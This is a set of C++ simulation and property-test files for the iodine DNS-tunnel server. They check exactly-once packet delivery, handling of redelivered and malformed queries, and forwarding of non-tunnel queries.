		// The new session happens to send a ping whose name (user id, acknowledgement fields, cache-miss counter) equals one of the
		// earlier session's last answered pings: one chance in 65536 for a real client, certain for this one.  Nothing the server
		// remembered for the earlier session (answer cache, query memory) may answer it.
		if (t.chance(1, 2)) {
			std::vector<std::string> oldnames;
			for (size_t i = R.q.size(); i-- > 0 && oldnames.size() < 6;) {
				const QRec &q = R.q[i];
				if (q.peer == peer_index(p) && !q.redelivery && q.t_sent < recycle_t0 && q.ack.user == old_user && !q.ack.is_data && !q.name.empty() && (q.name[0] == 'p' || q.name[0] == 'P') && q.answers > 0) oldnames.push_back(q.name);
			}
			if (!oldnames.empty() && old_user == p.sc.userid) {
				std::string name = oldnames[t.below((uint32_t)oldnames.size())];
				uint16_t id = p.sc.send_name(name);
				record(p, id, false, -1, p.sc.addr, name, refproto::qtype_of(p.sc.qtype_k));
				note(fmt("peer%d (new session) sends a ping named like one of the earlier session's: %.20s id=%u", peer_index(p), name.c_str(), id));
				R.n_recycled_same_name++;
				sim::W.run_for(30000);
			}
		}
		note(fmt("peer%d silent for > 60 s, logs in again: user %d -> %d, F %d -> %d%s", peer_index(p), old_user, p.sc.userid, oldF, p.F, F0 ? "" : " (no size set)"));
		return true;
	}

	// raw-mode traffic of the same session mixed with its DNS-mode queries: raw login (response to challenge+1),
	// raw pings, raw data frames.  The server keeps accepting DNS-mode pings and data for such a session.
	void do_rawmix(Peer &p)
	{
		if (!p.raw) {
			uint8_t h[16]; ref::login_hash(p.sc.password, p.sc.challenge + 1, h);
			p.sc.send_raw(refproto::raw_frame(1, p.sc.userid, Bytes(h, h + 16)));
			p.raw = true; R.n_raw++;
			note(fmt("peer%d raw login", peer_index(p)));
			return;
		}
		if (t.chance(1, 2)) { p.sc.send_raw(refproto::raw_frame(3, p.sc.userid, Bytes())); note(fmt("peer%d raw ping", peer_index(p))); }
		else {
			Bytes pkt = scn::gen_packet(t, R.s->server_tun_ip(), p.tun_ip, (uint16_t)(3000 + R.n_raw), 200);
			p.up_completed.push_back(pkt);
			p.sc.send_raw(refproto::raw_frame(2, p.sc.userid, refproto::zcompress(pkt)));
			note(fmt("peer%d raw data %zuB", peer_index(p), pkt.size()));
		}
		R.n_raw++;
	}

	void do_redeliver(Peer &p)
	{
		int me = peer_index(p);
		// nothing may be in flight towards the server when the windows are read off: a query that arrives just before the repeat makes
		// the server answer (and remember) the one it was holding, which shifts every window by one
		if (R.t_last_sent && sim::W.now < R.t_last_sent + sim::W.latency_us + 100) sim::W.run_for(R.t_last_sent + sim::W.latency_us + 100 - sim::W.now);
		// candidate windows
		std::vector<int> cache, qd, qp, pend;
		// queries the server has read but not answered yet (it holds up to two in lazy mode): any event -- the arrival of the repeat
		// itself, the send-real-soon timer -- may make it answer and remember them before the repeat is looked up, which pushes the
		// oldest entries out of its memories; the windows are narrowed by their number
		// (only queries of the current session: what an earlier session on the slot left unanswered is a new query to the server now)
		int npend = 0; for (size_t k = p.q_epoch; k < R.q.size(); k++) if (R.q[k].peer == me && !R.q[k].redelivery && R.q[k].t_delivered && R.q[k].answers == 0) npend++;
		int r_extra = p.flips + npend;
		int nc = std::max(0, 4 - r_extra), nd = std::max(0, 15 - r_extra), np = std::max(0, 30 - r_extra);
		int cd = 0, cp = 0, cc = 0;
		for (size_t k = p.saved_order.size(); k-- > 0;) {
			int qi = p.saved_order[k];
			const QRec &r = R.q[qi];
			if (r.peer != me || r.redelivery) continue;
			if (cc < nc) { cache.push_back(qi); }
			cc++;
			if (r.ack.is_ping) { if (cp < np) qp.push_back(qi); cp++; }
			else if (r.ack.is_data) { if (cd < nd) qd.push_back(qi); cd++; }
		}
		for (size_t k = p.q_epoch; k < R.q.size(); k++) if (R.q[k].peer == me && !R.q[k].redelivery && R.q[k].t_delivered && R.q[k].answers == 0) pend.push_back((int)k);
		int window; std::vector<int> *src;
		switch (t.pick({4, 3, 3, 3})) { case 0: window = 1; src = &cache; break; case 1: window = 2; src = &qd; break; case 2: window = 2; src = &qp; break; default: window = 3; src = &pend; break; }
		if (src->empty()) { src = &cache; window = 1; }
		if (src->empty()) return;
		// half of the picks go to the oldest query of the chosen window (the boundary of the server's memories)
		int of = t.chance(1, 2) ? src->back() : (*src)[t.below((uint32_t)src->size())];
		// is it (also) in the cache window?
		if (window == 2 && std::find(cache.begin(), cache.end(), of) != cache.end()) window = 1;
		QRec o = R.q[of];   // copy: record() below grows R.q
		std::string name = o.name; bool identical = true;
		bool can_flip = o.ack.is_ping || p.sc.up_codec == 0;
		bool flip = can_flip && t.chance(1, 5), forced = false;
		if (!o.ack.is_ping && p.sc.up_codec == 0 && src != &pend && (flip || (R.q.size() & 1))) {
			// a case-changed repeat of a data query: the oldest one in the data window whose 4-character fingerprint (the header characters
			// behind the user id) contains the last letter of the alphabet, where a case fold written as a range test goes wrong first.
			// No tape draw: whether an unflipped repeat is turned into this one depends on the history only, and it is upper-cased as a whole
			for (size_t k = qd.size(); k-- > 0;) {
				const std::string &nm = R.q[qd[k]].name;
				if (nm.size() > 5 && nm.substr(1, 4).find('z') != std::string::npos) { of = qd[k]; o = R.q[of]; name = o.name; forced = !flip; R.n_red_case_z++; break; }
			}
			window = std::find(cache.begin(), cache.end(), of) != cache.end() ? 1 : 2;
		}
		if (flip) { name = flip_case(o.name, t); identical = name == o.name; if (!identical) { p.flips++; R.n_red_case++; } }
		else if (forced) { for (auto &ch : name) if (ch >= 'a' && ch <= 'z') ch = (char)(ch - 32); identical = false; p.flips++; R.n_red_case++; }
		if (P.wild && !R.cfg.srv_domain.empty() && t.chance(1, 3) && name.size() > p.sc.domain.size() && name.compare(name.size() - p.sc.domain.size(), std::string::npos, p.sc.domain) == 0) {
			// the same payload under another sub-domain of the wildcard: a different question, which needs an answer of its own
			size_t dot = p.sc.domain.find('.');
			name = name.substr(0, name.size() - p.sc.domain.size()) + (t.chance(1, 2) ? "zz9" : "t") + "x" + p.sc.domain.substr(dot);
			identical = false; R.n_red_altdomain++;
		}
		bool newid = t.chance(1, 2);
		bool other = t.chance(1, 3);
		uint16_t id = newid ? (uint16_t)(20000 + R.q.size() * 7 + t.below(5)) : o.id;
		sim::Addr src_addr = p.sc.addr;
		if (other) { src_addr.port = (uint16_t)(p.sc.addr.port + 1 + t.below(3)); R.n_red_otheraddr++; }
		int times = 1 + (int)t.pick({6, 2, 1});
		for (int n = 0; n < times; n++) {
			sim::Datagram dg; dg.src = src_addr; dg.dst = p.sc.server;
			dg.data = refproto::make_query(id, name, o.qtype, p.sc.edns0);
			int qi = record(p, id, true, of, src_addr, name, o.qtype);
			R.q[qi].identical = identical; (void)window;
			sim::W.send(dg);
			R.n_redeliver++;
			note(fmt("re-deliver q#%d (%s, window %s) id=%u%s%s", of, o.ack.is_ping ? "ping" : "data", window == 1 ? "cache" : (window == 2 ? "qmem" : "pending"), id, other ? " from other address" : "", identical ? "" : " case changed"));
			if (n + 1 < times) {
				sim::W.run_for(t.below(3000)); id = newid ? (uint16_t)(id + 1) : id;
				// while the simulation ran, more queries may have been answered: the original must still be inside the window it was
				// picked from (the property speaks of the last 4 answered / last 15 data / 30 ping queries), else the repeats stop here
				int cc2 = 0, cd2 = 0, cp2 = 0; bool still = window == 3;
				if (window == 3) { still = R.q[of].answers == 0; }
				else for (size_t k = p.saved_order.size(); k-- > 0 && !still;) {
					int qi2 = p.saved_order[k]; const QRec &r2 = R.q[qi2];
					if (r2.peer != me || r2.redelivery) continue;
					bool in_c = cc2 < nc; cc2++;
					bool in_q = r2.ack.is_ping ? cp2 < np : (r2.ack.is_data ? cd2 < nd : false);
					if (r2.ack.is_ping) cp2++; else if (r2.ack.is_data) cd2++;
					if (qi2 == of) { still = window == 1 ? in_c : (in_c || in_q); break; }
				}
				if (!still) break;
			}
		}
	}
};

static const char *DOWN = "TSUVR";

inline void run_sessions(Tape &t, const Profile &P, Run &R)
{
	scn::Config &c = R.cfg;
	c.qtype = 1 + (int)t.pick({4, 1, 3, 2, 2, 2, 2});
	c.domain = t.chance(1, 4) ? "a.io" : "t.example.com";
	c.srv_seed = t.u32() | 1;
	c.nclients = 0;
	if (P.wild && t.chance(1, 3)) { size_t dot = c.domain.find('.'); c.srv_domain = "*" + c.domain.substr(dot); }
	R.s.reset(new scn::Session(c));
	R.tm.attach(sim::W);
	R.s->start_server();
	R.wm.v = &R.v; R.wm.domain = c.srv_domain.empty() ? c.domain : c.srv_domain; R.wm.srv_idx = R.s->srv->idx;
	R.wm.attach(sim::W);
	Engine E(R, t, P);
	E.install();
	sim::W.run_for(20000);
	int ns = 1 + (P.max_sessions > 1 ? (int)t.below((uint32_t)P.max_sessions) : 0);
	R.up = true;
	for (int k = 0; k < ns; k++) {
		std::unique_ptr<Peer> p(new Peer());
		bool v6 = t.chance(1, 6);
		if (v6) { uint8_t ip[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, (uint8_t)(0x70 + k)}; p->sc.addr = sim::Addr::v6(ip, (uint16_t)(5300 + 10 * k)); }
		else p->sc.addr = sim::Addr::v4(192, 0, 2, (uint8_t)(70 + k), (uint16_t)(5300 + 10 * k));
		p->sc.domain = c.domain; p->sc.password = Bytes(c.password.begin(), c.password.end()); p->sc.qtype_k = c.qtype;
		p->sc.next_id = (uint16_t)(100 + 3000 * k);
		p->sc.attach();
		// sink actors for the relay's other addresses
		for (int d = 1; d <= 3; d++) { sim::Addr a = p->sc.addr; a.port = (uint16_t)(a.port + d); sim::W.actors[a] = [](const sim::Datagram &) {}; }
		p->lazy = t.chance(2, 3);
		char de = t.chance(1, 2) ? 0 : DOWN[t.below(5)];
		static const int UPB[] = {0, 5, 6, 26, 7};
		int upb = UPB[t.pick({3, 1, 2, 2, 2})];
		int F0 = t.chance(1, 2) ? 0 : (P.wild_frag ? t.range(2, 1300) : t.range(20, 1200));
		if (P.big_frag && t.chance(1, 4)) { static const int BF[] = {2047, 2048, 2049, 4093, 4094, 0, 0}; F0 = BF[t.below(7)]; if (!F0) F0 = t.range(1200, 4094); }
		if (F0 > (int)E.format_cap()) F0 = t.range(2, (int)E.format_cap());
		bool ok = p->sc.handshake(p->lazy, F0, de, upb);
		if (!ok) { R.up = false; R.render = c.describe() + " | scripted handshake failed"; return; }
		if (F0) p->F = F0;
		if (P.z_cmc && (c.srv_seed & 2)) p->sc.data_cmc = 21 + (int)((c.srv_seed >> 2) % 5);   // no tape draw
		p->tun_ip = ip_of_text(p->sc.tun_ip_text);
		R.peers.push_back(std::move(p));
		R.render += fmt("[peer%d %s user=%d lazy=%d F=%d down=%c upbits=%d] ", k, R.peers.back()->sc.addr.str().c_str(), R.peers.back()->sc.userid, (int)R.peers.back()->lazy, R.peers.back()->F, de ? de : '-', upb);
		R.wm.fragsize[R.peers.back()->sc.userid] = R.peers.back()->F;   // the monitor was attached before the handshake and has seen it; keep in sync explicitly
	}
	R.render = c.describe() + " | " + R.render;
	int nact = t.range(5, P.max_actions);
	uint64_t last_q = sim::W.now;
	for (int a = 0; a < nact && !sim::W.livelock; a++) {
		Peer &p = *R.peers[t.below((uint32_t)R.peers.size())];
		size_t kind = t.pick({P.w_ping, P.w_up, P.w_offer, P.w_adv, P.w_nreq, P.w_redeliver, P.w_freeze, P.w_rawmix, P.w_recycle});
		switch (kind) {
		case 0:
			if (P.qr_games && t.chance(1, 12)) {
				// a datagram that looks like one of the session's pings but is a DNS *response* (QR = 1), optionally with a non-query opcode
				std::string name = refproto::name_ping(p.sc.userid, p.sc.dn_seq, p.sc.dn_frag, p.sc.cmc++, p.sc.domain);
				sim::Datagram dg; dg.src = p.sc.addr; dg.dst = p.sc.server;
				dg.data = refproto::make_query((uint16_t)(40000 + R.n_qr), name, refproto::qtype_of(p.sc.qtype_k), p.sc.edns0);
				if (dg.data.size() > 3) dg.data[2] |= 0x80;
				sim::W.send(dg); R.n_qr++;
				E.note(fmt("peer%d sends a ping-shaped RESPONSE datagram (QR=1)", E.peer_index(p)));
				break;
			}
			if (P.qr_games && t.chance(1, 12)) {
				// a handshake-type request in the middle of the session: fragment-size probe with a boundary size (0 and 1 are out of
				// range: exactly one answer, BADFRAG), echo, codec test -- each is one query and gets at most one answer
				std::string name;
				static const int SZ[] = {0, 1, 2, 3, 50, 1200, 2047};
				switch (t.pick({4, 1, 1, 3})) {
				case 0: name = refproto::name_fragprobe(p.sc.userid, SZ[t.below(7)], "aaaaaaaaaaaaaaaaaaaaaaaaaa", p.sc.domain); break;
				case 1: name = refproto::name_z("aA-Aaahhh-Drink-mal-ein", p.sc.cmc++, p.sc.domain); break;
				// the session switches lazy mode off or on (the client does the former after repeated SERVFAILs), typically while the server is
				// holding one of its queries; refused once the options are locked by an N request
				case 3: name = refproto::name_option(p.sc.userid, t.chance(2, 3) ? 'i' : 'l', p.sc.cmc++, p.sc.domain); R.n_optswitch++; break;
				default: name = refproto::name_downenc_test("tsuvr"[t.below(5)], 1, p.sc.cmc++, p.sc.domain); break;
				}
				uint16_t id = p.sc.send_name(name);
				E.record(p, id, false, -1, p.sc.addr, name, refproto::qtype_of(p.sc.qtype_k));
				E.note(fmt("peer%d handshake-type request %.12s id=%u", E.peer_index(p), name.c_str(), id));
				R.n_hsreq++;
				break;
			}
			if (P.qr_games && t.chance(1, 12)) {
				// the queries a delegating zone sends besides tunnel traffic: A for ns.<domain> and www.<domain>, NS for the domain itself
				// (any letter case), and look-alikes that ARE tunnel requests (nsx.<domain>: command 'n').  One query, at most one answer.
				static const char *PRE[] = {"ns.", "www.", "NS.", "Www.", "", "nsx.", "wwww.", "ns.ns."};
				int k = (int)t.below(8);
				std::string name = std::string(PRE[k]) + p.sc.domain;
				uint16_t qt = k == 4 ? 2 : (t.chance(4, 5) ? 1 : 2);
				uint16_t id = p.sc.send_name(name, -1, qt);
				E.record(p, id, false, -1, p.sc.addr, name, qt);
				E.note(fmt("peer%d infrastructure query %s type %u id=%u", E.peer_index(p), name.c_str(), qt, id));
				R.n_infra++;
				break;
			}
			E.do_ping(p, P.ack_games ? (int)t.pick({8, 2, 2, 1, 1}) : 0); last_q = sim::W.now; break;
		case 1: E.do_up(p); last_q = sim::W.now; break;
		case 2: E.do_offer(p); break;
		case 3: {
			static const uint64_t DT[] = {0, 5000, 19000, 21000, 100000, 1000000, 3000000, 10000000};
			uint64_t dt = DT[t.pick({2, 3, 3, 3, 2, 2, 1, 1})];
			if (sim::W.now + dt - last_q > 40000000) dt = 1000;
			sim::W.run_for(dt);
			E.note(fmt("advance %.3fs", dt / 1e6));
			break;
		}
		case 4: E.do_nreq(p); last_q = sim::W.now; break;
		case 5: E.do_redeliver(p); break;
		case 7: E.do_rawmix(p); last_q = sim::W.now; break;
		case 8: if (R.n_recycled < 2 && R.peers.size() == 1) { /* with several sessions the silence would expire all of them */ if (!E.do_recycle(p)) { R.up = false; R.render = c.describe() + " | scripted handshake after an expiry failed"; return; } last_q = sim::W.now; } break;
		default: {
			// a burst of answers is lost: the peer keeps pinging with its old acknowledgement (the server re-sends the
			// fragment and gives the packet up after the sixth attempt)
			p.frozen = t.range(2, 10);
			int n = p.frozen;
			E.note(fmt("answers to the next %d queries of peer%d are lost", n, E.peer_index(p)));
			for (int k = 0; k < n; k++) { E.do_ping(p, 0); sim::W.run_for(3000); for (auto &pp : R.peers) E.absorb_new(*pp); }
			last_q = sim::W.now;
			break;
		}
		}
		sim::W.run_for(t.chance(1, 4) ? t.below(4000) : 3000);
		for (auto &pp : R.peers) E.absorb_new(*pp);
	}
	// drain: honest pings until nothing more arrives
	for (int k = 0; k < 40 && !sim::W.livelock; k++) {
		for (auto &pp : R.peers) { E.do_ping(*pp, 0); }
		sim::W.run_for(30000);
		for (auto &pp : R.peers) E.absorb_new(*pp);
	}
	sim::W.run_for(100000);
	for (auto &pp : R.peers) E.absorb_new(*pp);
	// statistics
	for (size_t i = 0; i < R.q.size(); i++) {
		const QRec &r = R.q[i];
		if (r.redelivery && r.window == 3 && r.answers > 0 && r.of >= 0 && R.q[r.of].answers > 0 && !r.emits.empty() && !R.q[r.of].emits.empty() && R.em[r.emits[0]].t == R.em[R.q[r.of].emits[0]].t) R.n_dup_twice++;
	}
	R.render += fmt("| actions=%d queries=%zu emits=%zu data-emits=%llu redeliveries=%d (cache %d qmem %d pending %d lastfrag %d case %d otheraddr %d) cache-same=%d dup-answered-twice=%d held-max=%d",
			nact, R.q.size(), R.em.size(), (unsigned long long)R.n_data_emits, R.n_redeliver, R.n_red_cache, R.n_red_qmem, R.n_red_pending, R.n_red_lastfrag, R.n_red_case, R.n_red_otheraddr, R.n_cache_same, R.n_dup_twice, R.wm.max_held);
	for (size_t i = 0; i < R.trace.size() && i < 14; i++) R.render += "\n  " + R.trace[i];
}

// C16 (i)/(ii) end-to-end: upstream packets completed by the peers reach the server's tun exactly once, in order;
// downstream packets are reassembled by the peers exactly once, in the order the server read them.
inline void judge_exactly_once(Run &R)
{
	std::vector<mon::TunEv> wr = R.tm.writes_of(R.s->srv->idx);
	// upstream: interleaving across peers is free, per peer the order is fixed
	for (auto &pp : R.peers) {
		size_t pos = 0;
		for (auto &pkt : pp->up_completed) {
			int count = 0; size_t first = 0;
			for (size_t k = 0; k < wr.size(); k++) if (wr[k].data == pkt) { if (!count) first = k; count++; }
			if (count == 0) R.v.fail("C16", "C16:upstream-lost", fmt("an upstream packet (%zu bytes) completed by user %d never reached the server's tun device", pkt.size(), pp->sc.userid));
			else if (count > 1) R.v.fail("C16", "C16:upstream-twice", fmt("an upstream packet of user %d was written to the server's tun device %d times", pp->sc.userid, count));
			else { if (first < pos) R.v.fail("C16", "C16:upstream-order", "upstream packets written out of order"); pos = first; }
		}
		// every tun write must be one of the completed packets (nothing assembled from repeated fragments)
	}
	for (auto &w : wr) {
		bool found = false;
		for (auto &pp : R.peers) for (auto &pkt : pp->up_completed) if (pkt == w.data) found = true;
		if (!found) R.v.fail("C16", "C16:upstream-fabricated", fmt("server wrote a %zu-byte packet to its tun device that no session had sent", w.data.size()));
	}
	for (auto &pp : R.peers) {
		// downstream: received must be a subsequence of offered (the server may drop when its queue is full), no repeats
		size_t j = 0;
		for (auto &got : pp->sc.received) {
			bool ok = false;
			while (j < pp->offered.size()) { if (pp->offered[j++] == got) { ok = true; break; } }
			if (!ok) { R.v.fail("C16", "C16:downstream-repeat-or-reorder", fmt("user %d reassembled a downstream packet (%zu bytes) out of order or twice", pp->sc.userid, got.size())); break; }
		}
	}
}

} // namespace ses
