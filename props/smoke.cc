// smoke.cc -- manual smoke test of simnet: real iodined + real iodine, handshake, one packet each way.
#include "sim/simnet.h"
#include <cstdio>
#include <cstdlib>
#include <chrono>
using namespace sim;
namespace sim {
ImageRegion *image_srv(); int (*entry_srv())(int, char **);
ImageRegion *image_cli0(); int (*entry_cli0())(int, char **);
}

static Bytes ip_packet(uint8_t dst_last, size_t len, uint8_t fill)
{
	Bytes p(4 + len, fill);
	p[0] = 0; p[1] = 0; p[2] = 8; p[3] = 0;
	if (len >= 20) { p[4] = 0x45; p[4 + 16] = 10; p[4 + 17] = 0; p[4 + 18] = 0; p[4 + 19] = dst_last; }
	for (size_t i = 24; i < p.size(); i++) p[i] = (uint8_t)(i * 7 + fill);
	return p;
}

int main(int argc, char **argv)
{
	int n = argc > 1 ? atoi(argv[1]) : 1;
	const char *type = argc > 2 ? argv[2] : nullptr;
	bool verbose = n == 1;
	auto t0 = std::chrono::steady_clock::now();
	int ok = 0;
	for (int k = 0; k < n; k++) {
		W.reset();
		Instance *srv = W.add_instance("srv", entry_srv(), image_srv(),
			{"iodined", "-f", "-c", "-P", "secret", "10.0.0.1/27", "t.example.com"},
			Addr::v4(192, 0, 2, 1, 0), Addr(), 77 + k);
		std::vector<std::string> ca = {"iodine", "-f", "-r", "-P", "secret"};
		if (type) { ca.push_back("-T"); ca.push_back(type); }
		ca.push_back("192.0.2.1"); ca.push_back("t.example.com");
		Instance *cli = W.add_instance("cli", entry_cli0(), image_cli0(), ca,
			Addr::v4(192, 0, 2, 50, 0), Addr(), 99 + k);
		W.run_until(60ull * 1000000);
		if (verbose) {
			printf("t=%.3f resumes=%llu srv.state=%d cli.state=%d cli.exit=%d n_select_with_tun=%llu\n", W.now / 1e6,
			       (unsigned long long)W.resumes, srv->state, cli->state, cli->exit_code, (unsigned long long)cli->n_select_with_tun);
			printf("--- server log\n%s--- client log\n%s", srv->log.c_str(), cli->log.c_str());
			for (auto &s : cli->system_calls) printf("client system: %s\n", s.c_str());
			for (auto &s : srv->system_calls) printf("server system: %s\n", s.c_str());
		}
		W.offer_tun(cli, ip_packet(1, 600, 3));
		W.offer_tun(srv, ip_packet(2, 900, 9));
		W.run_for(5ull * 1000000);
		if (verbose) printf("srv tun writes %zu, cli tun writes %zu\n", srv->tun_writes.size(), cli->tun_writes.size());
		if (srv->tun_writes.size() == 1 && cli->tun_writes.size() == 1 &&
		    srv->tun_writes[0].data == ip_packet(1, 600, 3) && cli->tun_writes[0].data == ip_packet(2, 900, 9)) ok++;
	}
	auto t1 = std::chrono::steady_clock::now();
	printf("ok %d/%d in %.3fs\n", ok, n, std::chrono::duration<double>(t1 - t0).count());
	return ok == n ? 0 : 1;
}
