// C20 -- forwarded non-tunnel queries get their reply routed back to the asker.
// System part: real iodined with -b, 1..20 scripted requesters (IPv4 and IPv6), a scripted local resolver
// that replies in any order / twice / with ids never forwarded, tunnel traffic interleaved.
// Unit part: fw_query_put/get against a "last 16" model, random and exhaustively to a bounded depth.
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include "glue/unit_api.h"
#include <arpa/inet.h>
#include <deque>
using namespace hz;
using scn::fmt;

struct Fwd { uint64_t t; Bytes dgram; uint16_t id; std::string name; uint16_t qtype; int requester; };
struct Got { uint64_t t; Bytes data; };

static const char *NAMES[] = {"www.example.org", "a.b", "mail.some-other-domain.net", "x.t.example.com.evil.org", "t.example.co", "xt.example.com",
	"very-long-label-01234567890123456789012345678901234567890123456.and.another-label-with-some-length.example.info", "UPPER.Case.ExAmPlE.ORG", "1.0.0.127.in-addr.arpa"};
static const uint16_t TYPES[] = {1, 2, 5, 15, 16, 28, 33, 255, 10, 65399, 6};

// appends additional TXT records (owner: root) to a well-formed reply until it has about `want` bytes; keeps it well-formed
static void pad_reply(Bytes &reply, size_t want)
{
	if (reply.size() < 12) return;
	int added = 0;
	while (reply.size() + 13 <= want && reply.size() < 65000 && added < 250) {
		size_t room = std::min<size_t>(want - reply.size() - 11, 60000);
		size_t rd = 0; Bytes rdata;
		while (rd + 2 <= room) { size_t l = std::min<size_t>(255, room - rd - 1); rdata.push_back((uint8_t)l); for (size_t i = 0; i < l; i++) rdata.push_back((uint8_t)('a' + (i + added) % 26)); rd += l + 1; }
		if (rdata.empty()) { rdata.push_back(0); }
		reply.push_back(0); reply.push_back(0); reply.push_back(16); reply.push_back(0); reply.push_back(1);
		reply.push_back(0); reply.push_back(0); reply.push_back(0); reply.push_back(60);
		reply.push_back((uint8_t)(rdata.size() >> 8)); reply.push_back((uint8_t)rdata.size());
		reply.insert(reply.end(), rdata.begin(), rdata.end());
		added++;
	}
	int ar = (reply[10] << 8 | reply[11]) + added;
	reply[10] = (uint8_t)(ar >> 8); reply[11] = (uint8_t)ar;
}

static CaseResult system_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.forward_port = 5353;
	c.nclients = 0;
	c.srv_seed = t.u32() | 1;
	scn::Session s(c);
	mon::Verdicts v; mon::WireMonitor wm;
	s.start_server();
	wm.v = &v; wm.domain = c.domain; wm.srv_idx = s.srv->idx; wm.forwarding = true; wm.attach(sim::W);
	int nreq = t.range(1, 20);
	std::vector<sim::Addr> req(nreq);
	std::vector<std::vector<Got>> inbox(nreq);
	int n_v6 = 0;
	for (int k = 0; k < nreq; k++) {
		bool v6 = t.chance(1, 4);
		if (v6) { uint8_t ip[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, (uint8_t)(1 + k)}; req[k] = sim::Addr::v6(ip, (uint16_t)(7000 + k)); n_v6++; }
		else req[k] = sim::Addr::v4(203, 0, 113, (uint8_t)(1 + k / 2), (uint16_t)(7000 + k));   // pairs share an IP and differ in port
		sim::W.actors[req[k]] = [&inbox, k](const sim::Datagram &dg) { inbox[k].push_back(Got{sim::W.now, dg.data}); };
	}
	sim::Addr resolver = sim::Addr::v4(127, 0, 0, 1, 5353);
	std::vector<std::pair<sim::Addr, Bytes>> at_resolver;   // (source of the forwarded datagram, bytes)
	sim::W.actors[resolver] = [&](const sim::Datagram &dg) { at_resolver.push_back(std::make_pair(dg.src, dg.data)); };
	// an honest tunnel session in the background
	scn::ScriptClient sc; sc.addr = sim::Addr::v4(192, 0, 2, 90, 5300); sc.domain = c.domain; sc.password = Bytes(c.password.begin(), c.password.end()); sc.attach();
	bool tunnel_up = t.chance(1, 2) && sc.handshake(true, 0, 0, 0);
	sim::W.run_for(10000);

	std::deque<Fwd> ring;            // model: the 16 most recently forwarded queries
	std::vector<Fwd> all;
	int nids = t.range(3, 20);
	int nact = t.range(5, 80);
	uint32_t wq = t.chance(1, 2) ? 12 : 5;   // half of the cases let queries pile up (more than 16 outstanding)
	int n_unmatched = 0, n_reuse = 0, n_over16 = 0, n_replies = 0, n_relayed = 0, outstanding = 0, n_big = 0, n_runt = 0, n_longname = 0, n_hdronly = 0;
	std::string trace;
	auto note = [&](const std::string &x) { if (trace.size() < 1500) trace += "\n  " + x; if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f %s\n", sim::W.now / 1e6, x.c_str()); };
	for (int a = 0; a < nact && !t.exhausted(); a++) {
		switch (t.pick({wq, 4, 1, 1})) {
		case 0: {   // a requester asks
			int k = (int)t.below((uint32_t)nreq);
			uint16_t id = (uint16_t)(t.chance(1, 12) ? 0 : 1000 + 7 * t.below((uint32_t)nids));
			std::string name = NAMES[t.below(sizeof NAMES / sizeof NAMES[0])];
			if (t.chance(1, 8)) {
				// names up to the longest DNS allows (253 characters, labels up to 63), outside the tunnel domain
				static const size_t LEN[] = {200, 240, 243, 244, 245, 250, 252, 253};
				size_t want = LEN[t.below(8)]; size_t lab = t.chance(1, 2) ? 63 : 40 + t.below(23);
				std::string n;
				while (n.size() + 12 < want) { size_t l = std::min(lab, want - 12 - n.size()); if (l == 0) break; n += std::string(l, (char)('a' + n.size() % 26)); n += '.'; }
				n += "example.org";
				while (n.size() < want) n = "x" + n;
				if (n.size() == want && n.find("..") == std::string::npos && n[0] != '.') { size_t first = n.find('.'); if (first <= 63) { name = n; n_longname++; } }
			}
			uint16_t qt = TYPES[t.below(sizeof TYPES / sizeof TYPES[0])];
			sim::Datagram dg; dg.src = req[k]; dg.dst = req[k].family == AF_INET6 ? scn::SRV6 : scn::SRV4;
			dg.data = refproto::make_query(id, name, qt, t.chance(1, 3));
			size_t before = at_resolver.size();
			sim::W.send(dg);
			sim::W.run_for(3000);
			note(fmt("requester%d (%s) asks id=%u %s type %u", k, req[k].str().c_str(), id, name.c_str(), qt));
			if (at_resolver.size() != before + 1) {
				r.fail("C20:not-forwarded", fmt("query id=%u '%s' type %u from %s produced %zu datagrams at the local DNS port (expected 1)", id, name.c_str(), qt, req[k].str().c_str(), at_resolver.size() - before));
				break;
			}
			refdns::Msg m;
			std::string e = refdns::parse(at_resolver.back().second, m);
			if (!e.empty() || m.qr() || m.q.size() != 1) { r.fail("C20:forwarded-malformed", "forwarded query is not a well-formed query: " + e); break; }
			if (m.id != id || m.q[0].name.dotted() != name || m.q[0].type != qt || m.q[0].klass != 1)
				r.fail("C20:forwarded-differs", fmt("forwarded query carries id=%u name='%s' type=%u, the request had id=%u name='%s' type=%u", m.id, m.q[0].name.dotted().c_str(), m.q[0].type, id, name.c_str(), qt));
			for (auto &f : ring) if (f.id == id) { n_reuse++; break; }
			Fwd f{sim::W.now, at_resolver.back().second, id, name, qt, k};
			ring.push_back(f); all.push_back(f);
			if (ring.size() > 16) ring.pop_front();
			outstanding++;
			if (outstanding > 16) n_over16++;
			break;
		}
		case 1: case 2: {   // the resolver replies: to an earlier forwarded query, or with an id that was never forwarded
			uint16_t id; Bytes reply;
			bool unknown = t.chance(1, 5) || all.empty();
			if (unknown) { id = (uint16_t)(t.chance(1, 3) ? 0 : 40000 + t.below(1000)); reply = refdns::build_error_reply(refproto::make_query(id, "nothing.example", 1, false), 3); }
			else {
				const Fwd &f = all[all.size() - 1 - std::min<size_t>(all.size() - 1, t.below(24))];
				id = f.id;
				reply = refdns::build_error_reply(f.dgram, (int)t.below(6));
				if (reply.size() > 3) reply[2] = (uint8_t)(reply[2] | (t.below(2) << 2));   // vary a flag bit (AA) so replies differ
				// replies of any size a UDP datagram can have (well-formed: additional TXT records are appended until the size is reached)
				if (t.chance(1, 5)) { static const size_t SZ[] = {512, 513, 1232, 4095, 4096, 4097, 9000, 32768, 65000}; size_t want = t.chance(1, 2) ? SZ[t.below(9)] : 12 + t.below(20000); pad_reply(reply, want); n_big++; }
			}
			// a datagram too short to be a DNS message (1..11 bytes): whatever its first two bytes say, it is no reply to anybody's query;
			// at most the requester who asked with those two bytes as id may get it
			// a reply that is nothing but the 12-byte header (what a resolver sends when it cannot even parse the question): it has an id
			// like any other reply
			if (!unknown && t.chance(1, 8) && reply.size() > 12) { reply.resize(12); reply[4] = reply[5] = 0; reply[6] = reply[7] = reply[8] = reply[9] = reply[10] = reply[11] = 0; n_hdronly++; }
			bool runt = t.chance(1, 6);
			if (runt) {
				size_t n = 1 + t.below(11);
				Bytes rr(n); for (size_t i = 0; i < n; i++) rr[i] = (uint8_t)t.below(256);
				if (n >= 2 && !t.chance(1, 4)) { rr[0] = (uint8_t)(id >> 8); rr[1] = (uint8_t)id; }
